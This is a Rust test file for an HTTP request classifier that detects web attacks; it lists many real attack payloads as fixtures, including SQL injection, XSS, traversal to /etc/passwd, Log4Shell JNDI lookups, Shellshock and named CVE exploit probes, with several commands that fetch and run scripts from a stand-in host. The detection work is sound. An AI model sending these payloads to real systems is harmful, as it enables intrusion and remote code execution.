//! The classifier against byte-literal payloads: known attack strings in their
//! usual obfuscations, and ordinary requests that must stay unclassified.

use super::*;

fn classifier() -> Classifier {
    Classifier::new(None).unwrap()
}

fn verdict(c: &Classifier, parts: Parts<'_>) -> Verdict {
    c.classify(&parts, &mut Scratch::default())
}

fn query(c: &Classifier, q: &[u8]) -> Verdict {
    verdict(
        c,
        Parts {
            method: b"GET",
            path: b"/index.php",
            query: q,
            ..Default::default()
        },
    )
}

fn names(v: &Verdict) -> Vec<&'static str> {
    v.class_names().collect()
}

#[test]
fn default_rules_compile_with_known_classes() {
    let c = classifier();
    assert!(c.ids.len() >= 40);
    assert!(c.ids.iter().any(|id| id == "log4shell-jndi"));
}

#[test]
fn sql_injection_variants() {
    let c = classifier();
    for q in [
        &b"id=1%20UNION%20ALL%20SELECT%20NULL,NULL--"[..],
        b"id=1+union/**/select+1,2,3",
        b"id=1%2527%2520OR%25201%253D1--",
        b"id=1 AND 4521=4521",
        b"id=1) AND 8312=8312 AND (1=1",
        b"id=1' AND 'xYzA'='xYzA",
        b"id=1' OR '1'='1",
        b"id=1;WAITFOR DELAY '0:0:5'--",
        b"id=1 AND SLEEP(5)",
        b"id=(SELECT CHAR(113)||CHAR(107))",
        b"name=x' ORDER BY 3-- -",
        b"id=1,)..'(\").",
        b"id=1 AND extractvalue(1,concat(0x7e,version()))",
        b"q=1;DROP TABLE users",
        b"id=1%27QPWjHl%3C%27%22%3EFDfAWl",
        b"id=%28SELECT%20CONCAT%28CONCAT%280x716a787171%2C%28CASE%20WHEN%20%281435%3D1435%29%20THEN%200x31%20ELSE%200x30%20END%29%29%2C0x7170717871%29%29",
        b"id=1'",
        b"q=drill%27VPvhWN%3C%27%22%3EhMPNSY",
    ] {
        let v = query(&c, q);
        assert!(
            v.has("sqli"),
            "{} -> {:?}",
            String::from_utf8_lossy(q),
            names(&v)
        );
    }
}

#[test]
fn xss_variants() {
    let c = classifier();
    for q in [
        &b"q=<script>alert(1)</script>"[..],
        b"q=%3Cscript%3Ealert%281%29%3C%2Fscript%3E",
        b"q=%253Csvg%2520onload%253Dalert%25281%2529%253E",
        b"q=&lt;img src=x onerror=alert(1)&gt;",
        b"q=&#60;iframe src=javascript&colon;alert(1)&#62;",
        b"q=\"><ScRiPt>prompt`1`</sCrIpT>",
        b"u=javascript:alert(document.cookie)",
        b"q=<details open ontoggle=confirm(1)>",
    ] {
        let v = query(&c, q);
        assert!(
            v.has("xss"),
            "{} -> {:?}",
            String::from_utf8_lossy(q),
            names(&v)
        );
    }
}

#[test]
fn traversal_variants_in_path_and_query() {
    let c = classifier();
    for path in [
        &b"/../../../../etc/passwd"[..],
        b"/%2e%2e/%2e%2e/etc/passwd",
        b"/%252e%252e%252f%252e%252e%252fetc%252fshadow",
        b"/static/..%5c..%5cwindows%5cwin.ini",
        b"/download/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
    ] {
        let v = verdict(
            &c,
            Parts {
                method: b"GET",
                path,
                ..Default::default()
            },
        );
        assert!(
            v.has("traversal"),
            "{} -> {:?}",
            String::from_utf8_lossy(path),
            names(&v)
        );
    }
    let v = query(
        &c,
        b"page=php://filter/convert.base64-encode/resource=index.php",
    );
    assert!(v.has("traversal"), "{:?}", names(&v));
    let v = query(&c, b"file=....//....//etc/passwd");
    assert!(v.has("traversal"), "{:?}", names(&v));
}

#[test]
fn rfi_cmdi_php_ssrf() {
    let c = classifier();
    let v = query(&c, b"page=http://198.51.100.7/shell.txt?");
    assert!(v.has("rfi"), "{:?}", names(&v));
    for q in [
        &b"ip=127.0.0.1;cat /etc/passwd"[..],
        b"host=x|id",
        b"cmd=`whoami`",
        b"a=$(curl http://198.51.100.7/x.sh|sh)",
        b"ip=1%0Auname%20-a",
        b"x=;wget http://198.51.100.7/m -O- | sh",
        b"q=a${IFS}b",
    ] {
        let v = query(&c, q);
        assert!(
            v.has("cmdi"),
            "{} -> {:?}",
            String::from_utf8_lossy(q),
            names(&v)
        );
    }
    for q in [
        &b"x=<?php system($_GET['c']); ?>"[..],
        b"f=base64_decode('ZWNobyAx')",
        b"-d+allow_url_include%3don+-d+auto_prepend_file%3dphp://input",
    ] {
        let v = query(&c, q);
        assert!(
            v.has("php"),
            "{} -> {:?}",
            String::from_utf8_lossy(q),
            names(&v)
        );
    }
    let v = query(&c, b"url=http://169.254.169.254/latest/meta-data/iam/");
    assert!(v.has("ssrf"), "{:?}", names(&v));
    let v = query(&c, b"callback=http://127.0.0.1:6379/");
    assert!(v.has("ssrf"), "{:?}", names(&v));
}

#[test]
fn log4shell_in_headers_with_obfuscation() {
    let c = classifier();
    for ua in [
        &b"${jndi:ldap://198.51.100.7:1389/a}"[..],
        b"${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://x/a}",
        b"${${lower:jndi}:${lower:rmi}://x/a}",
        b"${j${k8s:k5:-ND}i${sd:k5:-:}ldap://x/a}",
        b"${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//x/a}",
        b"%24%7Bjndi:dns://x/a%7D",
    ] {
        let headers: [(&[u8], &[u8]); 2] = [(b"Host", b"a"), (b"X-Api-Version", ua)];
        let v = verdict(
            &c,
            Parts {
                method: b"GET",
                path: b"/",
                headers: &headers,
                ..Default::default()
            },
        );
        assert!(
            v.has("log4shell"),
            "{} -> {:?}",
            String::from_utf8_lossy(ua),
            names(&v)
        );
    }
}

#[test]
fn shellshock_and_scanners_and_cve_paths() {
    let c = classifier();
    let headers: [(&[u8], &[u8]); 1] = [(b"User-Agent", b"() { :; }; /bin/bash -c 'id'")];
    let v = verdict(
        &c,
        Parts {
            method: b"GET",
            path: b"/cgi-bin/test-cgi",
            headers: &headers,
            user_agent: headers[0].1,
            ..Default::default()
        },
    );
    assert!(v.has("shellshock") && v.has("cve-probe"), "{:?}", names(&v));
    for ua in [
        &b"Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"[..],
        b"sqlmap/1.7.2#stable (https://sqlmap.org)",
        b"Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)",
        b"masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
        b"Mozilla/5.0 zgrab/0.x",
        b"curl/7.88.1",
        b"python-requests/2.31.0",
    ] {
        let v = verdict(
            &c,
            Parts {
                method: b"GET",
                path: b"/",
                user_agent: ua,
                ..Default::default()
            },
        );
        assert!(
            v.has("scanner"),
            "{} -> {:?}",
            String::from_utf8_lossy(ua),
            names(&v)
        );
    }
    for path in [
        &b"/cgi-bin/.%2e/.%2e/.%2e/bin/sh"[..],
        b"/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
        b"/.env",
        b"/.git/config",
        b"/remote/fgt_lang",
    ] {
        let v = verdict(
            &c,
            Parts {
                method: b"GET",
                path,
                ..Default::default()
            },
        );
        assert!(
            v.has("cve-probe"),
            "{} -> {:?}",
            String::from_utf8_lossy(path),
            names(&v)
        );
    }
}

#[test]
fn ordinary_browser_requests_are_not_classified() {
    let c = classifier();
    let headers: [(&[u8], &[u8]); 5] = [
        (b"Host", b"www.example.com"),
        (
            b"User-Agent",
            b"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
        ),
        (b"Accept", b"text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"),
        (b"Cookie", b"wordpress_test_cookie=WP%20Cookie%20check; id=5; lang=en"),
        (b"Referer", b"https://www.example.com/blog/2024/01/hello-world/?utm_source=x&utm_medium=y"),
    ];
    for (path, q, body) in [
        (&b"/"[..], &b""[..], &b""[..]),
        (
            b"/wp-login.php",
            b"redirect_to=%2Fwp-admin%2F&reauth=1",
            b"log=alice&pwd=correct+horse&wp-submit=Log+In&testcookie=1",
        ),
        (
            b"/blog/2024/01/hello-world/",
            b"s=union+station+opening+hours",
            b"",
        ),
        (b"/search", b"q=rock+%26+roll&page=2&sort=date", b""),
        (
            b"/api/items",
            b"",
            b"{\"name\":\"O'Brien\",\"tags\":[\"a\",\"b\"],\"n\":1}",
        ),
    ] {
        let v = verdict(
            &c,
            Parts {
                method: b"POST",
                path,
                query: q,
                body,
                headers: &headers,
                user_agent: headers[1].1,
            },
        );
        assert_eq!(
            v.classes,
            0,
            "{} ?{} -> {:?} {:?}",
            String::from_utf8_lossy(path),
            String::from_utf8_lossy(q),
            names(&v),
            v.rules.iter().map(|r| c.rule_id(*r)).collect::<Vec<_>>()
        );
    }
}

#[test]
fn user_rules_extend_and_errors_name_the_rule() {
    let user = r#"
[[rule]]
id = "local-secret-path"
class = "cve-probe"
in = ["path"]
pattern = '^/internal-backup/'
"#;
    let c = Classifier::new(Some(("my.toml", user))).unwrap();
    let v = verdict(
        &c,
        Parts {
            method: b"GET",
            path: b"/internal-backup/db.tar",
            ..Default::default()
        },
    );
    assert!(v.rules.iter().any(|r| c.rule_id(*r) == "local-secret-path"));
    let bad_class = user.replace("cve-probe", "nope");
    let e = Classifier::new(Some(("my.toml", &bad_class))).unwrap_err();
    assert!(
        e.contains("local-secret-path") && e.contains("unknown class"),
        "{e}"
    );
    let bad_re = user.replace("^/internal-backup/", "(unclosed");
    let e = Classifier::new(Some(("my.toml", &bad_re))).unwrap_err();
    assert!(e.contains("local-secret-path"), "{e}");
    let e = Classifier::new(Some(("my.toml", "[[rule]]\nid=1"))).unwrap_err();
    assert!(e.contains("my.toml"), "{e}");
}

#[test]
fn hostile_inputs_terminate() {
    let c = classifier();
    let big = vec![b'%'; 64 * 1024];
    let _ = query(&c, &big);
    let nested = b"${".repeat(30_000);
    let _ = query(&c, &nested);
    let mixed: Vec<u8> = (0..=255u8).cycle().take(70_000).collect();
    let _ = query(&c, &mixed);
}

// ------------------------------------------------- headers, cookies, wrappers, CVEs

/// The ids of the rules in `v`.
fn ids<'a>(c: &'a Classifier, v: &Verdict) -> Vec<&'a str> {
    v.rules.iter().map(|r| c.rule_id(*r)).collect()
}

/// A GET of `/` with `Host` and one more header, as the server hands it over
/// (the user agent also in its own field when that header is the one).
fn with_header(c: &Classifier, name: &[u8], value: &[u8]) -> Verdict {
    let headers: [(&[u8], &[u8]); 2] = [(b"Host", b"www.example.com"), (name, value)];
    let user_agent: &[u8] = if name.eq_ignore_ascii_case(b"user-agent") {
        value
    } else {
        b""
    };
    verdict(
        c,
        Parts {
            method: b"GET",
            path: b"/",
            headers: &headers,
            user_agent,
            ..Default::default()
        },
    )
}

#[test]
fn injection_in_cookies_and_every_header() {
    let c = classifier();
    let cases: &[(&[u8], &[u8], &str)] = &[
        // sqlmap --level 3 and hand-made probes in cookies.
        (b"Cookie", b"id=1' OR '1'='1", "sqli"),
        (
            b"Cookie",
            b"PHPSESSID=abc123; lang=en%27%20UNION%20ALL%20SELECT%20NULL%2CNULL--%20-",
            "sqli",
        ),
        (b"Cookie", b"uid=1+AND+SLEEP(5)", "sqli"),
        (b"Cookie", b"TrackingId=xyz'||pg_sleep(10)--", "sqli"),
        (b"Cookie", b"id=1%3Bdrop%20table%20users", "sqli"),
        (b"Cookie", b"id=1%2527%2520AND%25201%253D1--", "sqli"),
        // The same in the headers sqlmap and scanners fill in.
        (b"User-Agent", b"Mozilla/5.0' AND 1=1-- -", "sqli"),
        (
            b"Referer",
            b"http://www.example.com/' UNION ALL SELECT NULL,NULL-- -",
            "sqli",
        ),
        (
            b"X-Forwarded-For",
            b"127.0.0.1' AND SLEEP(5) AND '1'='1",
            "sqli",
        ),
        (
            b"X-Forwarded-For",
            b"1.2.3.4'; DROP TABLE users; --",
            "sqli",
        ),
        (
            b"X-Client-IP",
            b"1' AND extractvalue(1,concat(0x7e,(SELECT @@version)))-- -",
            "sqli",
        ),
        // XSS aimed at log viewers and admin panels that print headers.
        (
            b"Cookie",
            b"comment=<script>alert(document.cookie)</script>",
            "xss",
        ),
        (
            b"Referer",
            b"https://x.example/\"><svg/onload=alert(1)>",
            "xss",
        ),
        (b"User-Agent", b"<img src=x onerror=alert(1)>", "xss"),
        (b"X-Forwarded-Host", b"javascript:alert(1)//", "xss"),
        // Command injection.
        (b"X-Forwarded-For", b"127.0.0.1;cat /etc/passwd", "cmdi"),
        (
            b"User-Agent",
            b"$(wget http://198.51.100.7/x -O- | sh)",
            "cmdi",
        ),
        (b"Cookie", b"lang=`id`", "cmdi"),
        (
            b"X-Api-Key",
            b"|| curl http://198.51.100.7/s.sh | bash",
            "cmdi",
        ),
        // Traversal.
        (b"Cookie", b"template=../../../../etc/passwd", "traversal"),
        (
            b"Cookie",
            b"lang=..%252f..%252f..%252fetc%252fpasswd",
            "traversal",
        ),
        (b"Referer", b"file:///etc/passwd", "traversal"),
        (
            b"Accept-Language",
            b"../../../../../../etc/passwd%00",
            "traversal",
        ),
        // Other injections that ride in headers.
        (
            b"Cookie",
            b"data=O:8:\"stdClass\":1:{s:1:\"a\";s:1:\"b\";}",
            "php",
        ),
        (
            b"X-Forwarded-Host",
            b"${jndi:ldap://198.51.100.7/a}",
            "log4shell",
        ),
        (
            b"Cookie",
            b"JSESSIONID=${${lower:j}ndi:ldap://198.51.100.7/a}",
            "log4shell",
        ),
    ];
    for (name, value, class) in cases {
        let v = with_header(&c, name, value);
        assert!(
            v.has(class),
            "{}: {} -> {:?} {:?}",
            String::from_utf8_lossy(name),
            String::from_utf8_lossy(value),
            names(&v),
            ids(&c, &v)
        );
    }
}

#[test]
fn cookies_are_split_and_form_decoded() {
    let headers: [(&[u8], &[u8]); 3] = [
        (b"Cookie", b"a=1; b = two ;c;; d=x=y"),
        (b"X-Other", b"e=5"),
        (b"cookie", b"f=%27"),
    ];
    let values: Vec<&[u8]> = cookie_values(&headers).collect();
    assert_eq!(
        values,
        [&b"1"[..], b"two", b"c", b"x=y", b"%27"],
        "{values:?}"
    );
    // PAN-OS's SESSID traversal is named as well as classified.
    let c = classifier();
    let v = with_header(
        &c,
        b"Cookie",
        b"SESSID=/../../../var/appweb/sslvpndocs/global-protect/portal/images/poc.txt",
    );
    assert!(v.has("traversal"), "{:?}", names(&v));
    assert!(ids(&c, &v).contains(&"CVE-2024-3400"), "{:?}", ids(&c, &v));
}

#[test]
fn php_stream_wrappers_are_inclusion_or_code() {
    let c = classifier();
    for (q, class, rule) in [
        (
            &b"page=php://filter/convert.base64-encode/resource=index.php"[..],
            "traversal",
            "traversal-php-wrappers",
        ),
        (
            b"page=PHP://FilTer/read=string.rot13/resource=config.php",
            "traversal",
            "traversal-php-wrappers",
        ),
        (
            b"file=php%3A%2F%2Ffilter%2Fresource%3D%2Fetc%2Fpasswd",
            "traversal",
            "traversal-php-wrappers",
        ),
        (
            b"page=compress.zlib:///etc/hostname",
            "traversal",
            "traversal-php-wrappers",
        ),
        (b"page=php://input", "php", "php-wrapper-input"),
        (b"page=php%253A%252F%252FInPuT", "php", "php-wrapper-input"),
        (
            b"page=data://text/plain;base64,PD9waHAgc3lzdGVtKCdpZCcpOyA/Pg==",
            "php",
            "php-wrapper-data",
        ),
        (
            b"page=data:text/plain,<?php phpinfo();?>",
            "php",
            "php-wrapper-data",
        ),
        (
            b"page=data:;base64,PD9waHAgZWNobyAxOz8%2B",
            "php",
            "php-wrapper-data",
        ),
        (b"page=expect://id", "php", "php-wrapper-expect"),
        (b"page=ExPeCt%3A%2F%2Fls", "php", "php-wrapper-expect"),
        (
            b"page=phar:///var/www/uploads/avatar.jpg/shell",
            "php",
            "php-wrapper-archive",
        ),
        (
            b"page=zip://uploads/a.zip%23shell",
            "php",
            "php-wrapper-archive",
        ),
    ] {
        let v = query(&c, q);
        assert!(
            v.has(class) && ids(&c, &v).contains(&rule),
            "{} -> {:?} {:?}",
            String::from_utf8_lossy(q),
            names(&v),
            ids(&c, &v)
        );
    }
    // In a cookie too (PHP applications include `$_COOKIE['lang']`).
    let v = with_header(&c, b"Cookie", b"lang=php://filter/resource=../config");
    assert!(v.has("traversal"), "{:?}", names(&v));
    // An image posted as a data URL is not an inclusion.
    let v = verdict(
        &c,
        Parts {
            method: b"POST",
            path: b"/api/avatar",
            body: b"{\"avatar\":\"data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAAB\"}",
            ..Default::default()
        },
    );
    assert_eq!(v.classes, 0, "{:?} {:?}", names(&v), ids(&c, &v));
}

/// One probe: method, path, query, body, one extra header, and the rule it must
/// match.
type Probe = (
    &'static [u8],
    &'static [u8],
    &'static [u8],
    &'static [u8],
    (&'static [u8], &'static [u8]),
    &'static str,
);

#[test]
fn framework_and_appliance_rce_probes_are_named() {
    let c = classifier();
    let none: (&[u8], &[u8]) = (b"Accept", b"*/*");
    let probes: &[Probe] = &[
        (
            b"GET",
            b"/",
            b"",
            b"",
            (b"X-Api-Version", b"${${lower:j}ndi:ldap://198.51.100.7:1389/a}"),
            "log4shell-jndi",
        ),
        (
            b"GET",
            b"/",
            b"",
            b"",
            (b"Referer", b"${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}"),
            "log4shell-jndi",
        ),
        (
            b"POST",
            b"/index",
            b"",
            b"class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di",
            none,
            "CVE-2022-22965",
        ),
        (
            b"GET",
            b"/index.php",
            b"s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=Hello",
            b"",
            none,
            "CVE-2018-20062",
        ),
        (
            b"GET",
            b"/index.php",
            b"s=/index/%5Cthink%5Capp/invokefunction&function=phpinfo",
            b"",
            none,
            "CVE-2018-20062",
        ),
        (
            b"POST",
            b"/index.php",
            b"s=captcha",
            b"_method=__construct&filter[]=system&method=get&server[REQUEST_METHOD]=id",
            none,
            "CVE-2018-20062",
        ),
        (
            b"GET",
            b"/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
            b"",
            b"",
            none,
            "CVE-2021-41773",
        ),
        (
            b"GET",
            b"/icons/.%%32%65/.%%32%65/.%%32%65/etc/passwd",
            b"",
            b"",
            none,
            "CVE-2021-41773",
        ),
        (
            b"POST",
            b"/laravel/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
            b"",
            b"<?php echo md5('phpunit'); ?>",
            none,
            "CVE-2017-9841",
        ),
        (
            b"GET",
            b"/lib/phpunit/Util/PHP/eval-stdin.php",
            b"",
            b"",
            none,
            "CVE-2017-9841",
        ),
        (
            b"GET",
            b"/struts2-showcase/index.action",
            b"",
            b"",
            (
                b"Content-Type",
                b"%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd='id')}",
            ),
            "struts2-ognl",
        ),
        (
            b"GET",
            b"/%24%7B%28%23_memberAccess%5B%22allowStaticMethodAccess%22%5D%3Dtrue%29%7D/actionChain1.action",
            b"",
            b"",
            none,
            "struts2-ognl",
        ),
        (
            b"POST",
            b"/GponForm/diag_Form",
            b"images/",
            b"XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`busybox+wget+http://198.51.100.7/g+-O+/tmp/g;sh+/tmp/g`&ipv=0",
            none,
            "CVE-2018-10561",
        ),
        (
            b"PUT",
            b"/SDK/webLanguage",
            b"",
            b"<?xml version=\"1.0\" encoding=\"UTF-8\"?><language>$(id>webLib/x)</language>",
            none,
            "CVE-2021-36260",
        ),
        (
            b"POST",
            b"/index.php",
            b"routestring=ajax/render/widget_php",
            b"widgetConfig%5Bcode%5D=echo+shell_exec('id');exit;",
            none,
            "CVE-2019-16759",
        ),
        (
            b"GET",
            b"/vpn/../vpns/cfg/smb.conf",
            b"",
            b"",
            none,
            "CVE-2019-19781",
        ),
        (
            b"POST",
            b"/vpn/%2e%2e/vpns/portal/scripts/newbm.pl",
            b"",
            b"",
            none,
            "CVE-2019-19781",
        ),
        (
            b"POST",
            b"/mgmt/tm/util/bash",
            b"",
            b"{\"command\":\"run\",\"utilCmdArgs\":\"-c id\"}",
            (b"X-F5-Auth-Token", b"a"),
            "CVE-2022-1388",
        ),
        (
            b"GET",
            b"/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29.getInputStream%28%29%2C%22utf-8%22%29%29%7D/",
            b"",
            b"",
            none,
            "CVE-2022-26134",
        ),
        (
            b"GET",
            b"/",
            b"",
            b"",
            (b"X-Cmd", b"${@java.lang.Runtime@getRuntime().exec(\"id\")}"),
            "CVE-2022-26134",
        ),
        (
            b"POST",
            b"/ctrlt/DeviceUpgrade_1",
            b"",
            b"<NewStatusURL>$(/bin/busybox wget -g 198.51.100.7 -l /tmp/x -r /x)</NewStatusURL>",
            none,
            "CVE-2017-17215",
        ),
        (
            b"POST",
            b"/functionRouter",
            b"",
            b"x",
            (
                b"spring.cloud.function.routing-expression",
                b"T(java.lang.Runtime).getRuntime().exec(\"id\")",
            ),
            "CVE-2022-22963",
        ),
        (
            b"GET",
            b"/console/css/%252e%252e%252fconsole.portal",
            b"",
            b"",
            none,
            "CVE-2020-14882",
        ),
        (
            b"POST",
            b"/ztp/cgi-bin/handler",
            b"",
            b"{\"command\":\"setWanPortSt\",\"mtu\":\";id;\"}",
            none,
            "CVE-2022-30525",
        ),
        (
            b"GET",
            b"/api/v2/cmdb/system/admin/admin",
            b"",
            b"",
            (b"Forwarded", b"for=\"[127.0.0.1]:8000\";by=\"[127.0.0.1]:9000\""),
            "CVE-2022-40684",
        ),
    ];
    for (method, path, q, body, header, rule) in probes {
        let headers: [(&[u8], &[u8]); 2] = [(b"Host", b"203.0.113.5"), *header];
        let v = verdict(
            &c,
            Parts {
                method,
                path,
                query: q,
                body,
                headers: &headers,
                user_agent: b"",
            },
        );
        assert!(
            ids(&c, &v).contains(rule) && v.classes != 0,
            "{} {}?{} -> {:?} {:?}, want {rule}",
            String::from_utf8_lossy(method),
            String::from_utf8_lossy(path),
            String::from_utf8_lossy(q),
            names(&v),
            ids(&c, &v)
        );
    }
}

#[test]
fn shellshock_in_every_header_form() {
    let c = classifier();
    let payloads: &[&[u8]] = &[
        b"() { :; }; echo; /bin/bash -c 'cat /etc/passwd'",
        b"() { :;}; /bin/bash -c \"wget http://198.51.100.7/a -O /tmp/a\"",
        b"(){:;};id",
        b"()  {  :; } ;  echo vulnerable",
        b"() { _; } >_[$($())] { echo hi; }",
        b"() { (a)=>\\' bash -c \"echo date\"",
        b"() { 0; }; id",
        b"%28%29%20%7B%20%3A%3B%20%7D%3B%20id",
        b"x=() { :; }; id",
    ];
    let names_: &[&[u8]] = &[
        b"User-Agent",
        b"Referer",
        b"Cookie",
        b"X-Forwarded-For",
        b"Accept",
        b"Accept-Language",
        b"Host",
        b"X-Anything-At-All",
    ];
    for payload in payloads {
        for name in names_ {
            let v = with_header(&c, name, payload);
            assert!(
                v.has("shellshock"),
                "{}: {} -> {:?} {:?}",
                String::from_utf8_lossy(name),
                String::from_utf8_lossy(payload),
                names(&v),
                ids(&c, &v)
            );
        }
    }
}

#[test]
fn encoded_and_double_encoded_variants() {
    let c = classifier();
    let path = |p: &[u8]| {
        verdict(
            &c,
            Parts {
                method: b"GET",
                path: p,
                ..Default::default()
            },
        )
    };
    for (p, rule) in [
        (
            &b"/%252e%252e%252f%252e%252e%252fconfig.php"[..],
            "traversal-dot-dot",
        ),
        (b"/static/%2E%2e%2F%2e%2E%2fconfig.php", "traversal-dot-dot"),
        (
            b"/static/%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afconfig.php",
            "traversal-dot-dot",
        ),
        (b"/static/%C0%AE%C0%AE/app.ini", "traversal-dot-dot"),
        (b"/static/%25c0%25ae%25c0%25ae/app.ini", "traversal-dot-dot"),
        (b"/static/%e0%80%ae%e0%80%ae/app.ini", "traversal-dot-dot"),
    ] {
        let v = path(p);
        assert!(
            ids(&c, &v).contains(&rule),
            "{} -> {:?}",
            String::from_utf8_lossy(p),
            ids(&c, &v)
        );
    }
    for q in [
        &b"id=1%2527%2520OR%25201%253D1--"[..],
        b"id=1+UNION+ALL+SELECT+1,2--",
        b"id=1%20uNiOn%20aLl%20sElEcT%201,2",
        b"id=1%2520UNION%2520SELECT%25201,2",
        b"id=%2531%2527%2520%2541%254E%2544%2520%2531%253D%2531",
    ] {
        let v = query(&c, q);
        assert!(
            v.has("sqli"),
            "{} -> {:?}",
            String::from_utf8_lossy(q),
            ids(&c, &v)
        );
    }
    let v = with_header(&c, b"Cookie", b"id=1+union+select+1,2");
    assert!(v.has("sqli"), "{:?}", ids(&c, &v));
}

/// What Chromium 120 sends for a page of a shop the user is logged in to.
const CHROME: &[(&[u8], &[u8])] = &[
    (b"Host", b"shop.example.com"),
    (b"Connection", b"keep-alive"),
    (
        b"sec-ch-ua",
        b"\"Not_A Brand\";v=\"8\", \"Chromium\";v=\"120\", \"Google Chrome\";v=\"120\"",
    ),
    (b"sec-ch-ua-mobile", b"?0"),
    (b"sec-ch-ua-platform", b"\"Windows\""),
    (
        b"sec-ch-ua-full-version-list",
        b"\"Not_A Brand\";v=\"8.0.0.0\", \"Chromium\";v=\"120.0.6099.130\", \"Google Chrome\";v=\"120.0.6099.130\"",
    ),
    (b"Upgrade-Insecure-Requests", b"1"),
    (
        b"User-Agent",
        b"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
    ),
    (
        b"Accept",
        b"text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,image/apng,*/*;q=0.8,application/signed-exchange;v=b3;q=0.7",
    ),
    (b"Sec-Fetch-Site", b"same-origin"),
    (b"Sec-Fetch-Mode", b"navigate"),
    (b"Sec-Fetch-User", b"?1"),
    (b"Sec-Fetch-Dest", b"document"),
    (
        b"Referer",
        b"https://shop.example.com/search?q=o%27reilly+books&page=2&next=%2Faccount%2Forders%3Fpage%3D2",
    ),
    (b"Accept-Encoding", b"gzip, deflate, br"),
    (b"Accept-Language", b"en-GB,en-US;q=0.9,en;q=0.8,de;q=0.7"),
    (
        b"Cookie",
        b"_ga=GA1.2.1234567890.1701234567; _gid=GA1.2.987654321.1701900000; _ga_ABC123XYZ=GS1.1.1701900000.3.1.1701900500.0.0.0; _gcl_au=1.1.1234567890.1701234567; _fbp=fb.1.1701234567890.1234567890; session=eyJ1c2VyIjoiYWxpY2UiLCJyb2xlIjoidXNlciJ9.ZXhhbXBsZQ.c2lnbmF0dXJlLXZhbHVl; token=eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwiaWF0IjoxNTE2MjM5MDIyfQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c; PHPSESSID=k3j2h4g5f6d7s8a9q0w1e2r3t4; cart=%7B%22items%22%3A%5B%7B%22id%22%3A42%2C%22qty%22%3A1%7D%5D%7D; consent=necessary:true,analytics:false; __utmz=111872281.1701234567.1.1.utmcsr=(direct)|utmccn=(direct)|utmcmd=(none); remember_web=dGhpcyBpcyBhIGJhc2U2NCtzdHJpbmcvd2l0aD1wYWRkaW5n; laravel_session=eyJpdiI6IlJ0bE9TQ2R3K3J2T1E9PSIsInZhbHVlIjoiYWJjK2RlZi9naGk9IiwibWFjIjoiMTIzIn0%3D; XSRF-TOKEN=eyJpdiI6Ik1UST0iLCJ2YWx1ZSI6IjEyMyJ9",
    ),
];

/// What Firefox 121 sends, with WordPress and Cloudflare cookies.
const FIREFOX: &[(&[u8], &[u8])] = &[
    (b"Host", b"www.example.org"),
    (
        b"User-Agent",
        b"Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0",
    ),
    (
        b"Accept",
        b"text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8",
    ),
    (b"Accept-Language", b"fr-FR,fr;q=0.8,en-US;q=0.5,en;q=0.3"),
    (b"Accept-Encoding", b"gzip, deflate, br"),
    (b"Referer", b"https://www.google.com/"),
    (b"DNT", b"1"),
    (b"Connection", b"keep-alive"),
    (
        b"Cookie",
        b"wordpress_logged_in_0123abcd=alice%7C1702000000%7CxYz%7Cabc123; wp-settings-1=libraryContent%3Dbrowse%26editor%3Dtinymce; wp-settings-time-1=1701900000; __cf_bm=abc.def-1701900000-0-AQ+abc/def=; cf_clearance=xyz_abc-1701900000-0-1-abc.def.ghi-150.0.0; lang=en-US; theme=dark",
    ),
    (b"Upgrade-Insecure-Requests", b"1"),
    (b"Sec-Fetch-Dest", b"document"),
    (b"Sec-Fetch-Mode", b"navigate"),
    (b"Sec-Fetch-Site", b"cross-site"),
    (b"Sec-Fetch-User", b"?1"),
    (b"If-None-Match", b"W/\"5e-18c4a1b2c3d\""),
    (b"If-Modified-Since", b"Wed, 06 Dec 2023 10:00:00 GMT"),
    (b"Cache-Control", b"max-age=0"),
    (b"TE", b"trailers"),
];

/// A single-page application's XHR, with a bearer token and JSON.
const XHR: &[(&[u8], &[u8])] = &[
    (b"Host", b"app.example.com"),
    (
        b"User-Agent",
        b"Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Mobile/15E148 Safari/604.1",
    ),
    (b"Accept", b"application/json, text/plain, */*"),
    (b"Content-Type", b"application/json;charset=UTF-8"),
    (b"X-Requested-With", b"XMLHttpRequest"),
    (
        b"Authorization",
        b"Bearer eyJhbGciOiJSUzI1NiIsImtpZCI6IjEifQ.eyJpc3MiOiJodHRwczovL2lkLmV4YW1wbGUuY29tIiwic2NvcGUiOiJvcGVuaWQgcHJvZmlsZSJ9.c2ln",
    ),
    (b"Origin", b"https://app.example.com"),
